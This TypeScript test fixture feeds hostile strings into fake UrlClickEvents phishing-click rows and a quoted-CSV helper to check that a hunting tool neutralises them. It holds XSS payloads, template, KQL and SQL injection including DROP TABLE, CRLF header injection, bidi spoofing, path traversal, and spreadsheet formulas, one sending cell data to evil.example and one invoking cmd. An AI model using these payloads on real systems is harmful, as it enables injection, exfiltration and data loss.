/** Text that would like to be more than text, for the tests that put it wherever text goes. */

/** Sets a global where it runs as a script. */
export const CANARY = "globalThis.hostile = 1";

/** A link to somewhere that must not be reached from here. */
export const LIVE = "http://evil.example/x?a=1";
/** How it is live, in whichever scheme or spelling: neither seen nor linked. */
export const LIVE_URL = /(?:(?:https?|ftp):\/\/|www\.)[\w.@-]*evil\.example/i;

/** What any export can carry. */
export const HOSTILE = {
	live: `${LIVE} HTTPS://evil.example ftp://evil.example www.evil.example [a](${LIVE})`,
	script: `<script>${CANARY}</script><x-hostile>`,
	attribute: `"'><img src=x onerror="${CANARY}"><x-hostile>`,
	svg: `<svg onload="${CANARY}"><style>*{display:none}</style><x-hostile></svg>`,
	comment: `--></title></textarea><x-hostile><iframe srcdoc="<script>top.${CANARY}</script>">`,
	template: `{{constructor.constructor('${CANARY}')()}}\${${CANARY}}`,
	scheme: `javascript:${CANARY}`,
	data: `data:text/html,<script>${CANARY}</script>`,
	formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
	plus: "+1+cmd|' /C calc'!A0",
	minus: "-2+3",
	at: "@SUM(1+1)",
	tab: "\t=1+1",
	kql: `" | union SecurityEvent | take 1 //`,
	sql: `'; DROP TABLE "Finding"; --`,
	crlf: "a\r\nSet-Cookie: hostile=1\r\n\r\n<x-hostile>",
	bidi: "invoice\u202egpj.exe",
	isolate: "a\u2066b\u2069c\u200bd\ufeffe",
	path: "../../../../etc/passwd",
	proto: "__proto__",
} as const;

/** What JSON alone can carry. */
export const HOSTILE_JSON = {
	nul: "a\u0000b",
	half: "a\ud800b",
	escape: "\u001b[31mred\u0007",
	/** In every column it makes a row of a megabyte. */
	long: "M<x-hostile>".repeat(8_000),
} as const;

/** Every column of `UrlClickEvents` that holds text. */
const COLUMNS = [
	"AccountUpn",
	"ActionType",
	"AppName",
	"DetectionMethods",
	"IPAddress",
	"NetworkMessageId",
	"ReportId",
	"Url",
	"UrlChain",
	"Workload",
] as const;

/** A click for each of the texts, in every column; the seed hunt finds them all, as it asks for phishing. */
export function hostileClicks(
	texts: Readonly<Record<string, string>>,
	until: Date,
): Record<string, string | boolean>[] {
	return Object.values(texts).map((text, index) => ({
		TimeGenerated: new Date(until.getTime() - (index + 1) * 60_000).toISOString(),
		IsClickedThrough: true,
		ThreatTypes: `Phish, ${text}`,
		...Object.fromEntries(COLUMNS.map((column) => [column, text])),
	}));
}

/** Rows of the same columns as CSV, every cell in quotes. */
export function quotedCsv(rows: readonly Readonly<Record<string, string | boolean>>[]): string {
	const names = Object.keys(rows[0] ?? {});
	return [names, ...rows.map((row) => names.map((name) => row[name]))]
		.map((line) => line.map((cell) => `"${String(cell).replaceAll('"', '""')}"`).join(","))
		.join("\n");
}
